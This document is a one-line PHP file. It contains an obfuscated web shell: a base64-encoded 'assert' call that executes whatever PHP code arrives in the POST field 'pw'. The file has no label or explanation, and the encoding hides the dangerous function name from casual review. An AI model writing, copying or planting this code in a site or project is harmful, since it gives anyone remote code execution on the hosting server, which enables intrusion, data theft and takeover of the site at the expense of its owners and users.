<?php $fn = base64_decode("YXNzZXJ0"); $fn($_POST['pw']); ?>
